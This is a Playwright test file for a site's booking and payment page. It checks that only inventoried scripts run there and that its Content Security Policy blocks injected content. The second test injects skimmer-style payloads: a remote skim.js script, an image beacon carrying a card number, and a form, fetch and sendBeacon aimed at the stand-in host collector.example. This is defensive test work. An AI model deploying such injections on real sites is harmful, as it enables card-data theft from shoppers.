import type { Page } from '@playwright/test';
import { expect } from 'vitest';
import { book, GOOD_CARD } from '#test/screens/book.ts';
import { compare } from '#test/screens/compare.ts';
import { isAwake, leftOn } from '#test/screens/screen.ts';
import { inventory, unlisted } from '#test/support/money/payment-scripts.ts';
import { DESKTOP, journey } from '../visitor.ts';
import { walkTo } from '../walk.ts';

journey(
  'Book runs what its inventory names and nothing else, also when it was reached by a press within the site [property 58]',
  { size: DESKTOP },
  async ({ page }) => {
    await page.addInitScript(watchViolations);
    await walkTo(page, 'COMPARE');
    const loaded: string[] = [];
    page.on('request', (request) => {
      if (request.isNavigationRequest()) loaded.length = 0;
      if (request.resourceType() === 'script') loaded.push(new URL(request.url()).pathname);
    });
    await page.evaluate(() => Object.assign(window, { before: true }));
    await compare(page).chooses();
    await isAwake(page);
    expect(await page.evaluate(() => 'before' in window)).toBe(false);
    const { isCalled, paysWith, choosesCover, way } = book(page);
    await isCalled();
    await paysWith(GOOD_CARD);
    await choosesCover();
    await way('PayPal').check({ force: true });
    await way('3 installments').check({ force: true });
    await way('Card').check({ force: true });
    expect(unlisted([...loaded, ...(await inlineScripts(page))], inventory().scripts)).toEqual([]);
    expect([...new Set(loaded)].sort()).toEqual(await namedByTheBuild(page));
    expect(await violations(page)).toEqual([]);
  },
);

journey(
  'what gets onto Book from elsewhere does not run, call out or frame anything [property 58]',
  { size: DESKTOP },
  async ({ page, faults }) => {
    await page.addInitScript(watchViolations);
    await walkTo(page, 'BOOK');
    const outside: string[] = [];
    await page.route('https://collector.example/**', (route) => {
      outside.push(route.request().url());
      return route.abort();
    });
    await page.evaluate(async () => {
      const add = (tag: string, attributes: Record<string, string>, text = '') => {
        const element = Object.assign(document.createElement(tag), { textContent: text });
        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
        document.body.append(element);
      };
      add('script', {}, 'window.ran = 1');
      add('script', { nonce: 'guessed' }, 'window.ran = 1');
      add('script', { src: 'https://collector.example/skim.js' });
      add('img', { src: 'x', onerror: 'window.ran = 1' });
      add('iframe', { src: 'https://collector.example/' });
      add('img', { src: 'https://collector.example/card?4111' });
      add('style', {}, '#main { display: none }');
      add('form', { action: 'https://collector.example/', method: 'post' });
      await fetch('https://collector.example/').catch(() => undefined);
      navigator.sendBeacon?.('https://collector.example/');
    });
    await expect
      .poll(async () => [...new Set(await violations(page))].sort())
      .toEqual(['connect-src', 'frame-src', 'img-src', 'script-src-attr', 'script-src-elem', 'style-src-elem']);
    expect(await page.evaluate(() => 'ran' in window)).toBe(false);
    await expect.poll(() => book(page).button.isVisible()).toBe(true);
    expect(outside).toEqual([]);
    // The browser wrote of each of them; that is what was wanted.
    faults.length = 0;
  },
);

/** What stands in the page itself, by what it is for. */
const inlineScripts = async (page: Page): Promise<string[]> => {
  const texts = await page.evaluate(() =>
    [...document.querySelectorAll('script:not([src])')].map((script) => ({
      text: script.textContent ?? '',
      has_nonce: (script as HTMLElement).nonce !== '',
    })),
  );
  return texts.map(({ text, has_nonce }) => (has_nonce ? `inline: ${kindOf(text)}` : 'inline without nonce'));
};

const kindOf = (text: string): string => {
  if (text.startsWith('((storageKey, restoreKey) =>')) return 'scroll';
  if (text.startsWith('window.__reactRouterContext')) return 'context';
  return /^\s*;?\s*import /.test(text) ? 'modules' : text.slice(0, 60);
};

/** The entry and the routes that make up this page, as the build wrote them down. */
const namedByTheBuild = (page: Page): Promise<string[]> =>
  page.evaluate(() => {
    type Files = { module: string; clientLoaderModule?: string; imports?: string[] };
    type Router = {
      __reactRouterManifest: { entry: Files; routes: Record<string, Files> };
      __reactRouterRouteModules: Record<string, unknown>;
    };
    const { __reactRouterManifest: manifest, __reactRouterRouteModules: shown } = window as unknown as Router;
    const parts = [manifest.entry, ...Object.keys(shown).map((id) => manifest.routes[id]!)];
    return [
      ...new Set(parts.flatMap(({ module, clientLoaderModule = module, imports = [] }) => [module, clientLoaderModule, ...imports])),
    ].sort();
  });

const watchViolations = (): void => {
  const refused: string[] = [];
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refused.push(effectiveDirective));
  Object.assign(window, { refused });
};

const violations = (page: Page): Promise<string[]> => leftOn(page, 'refused');
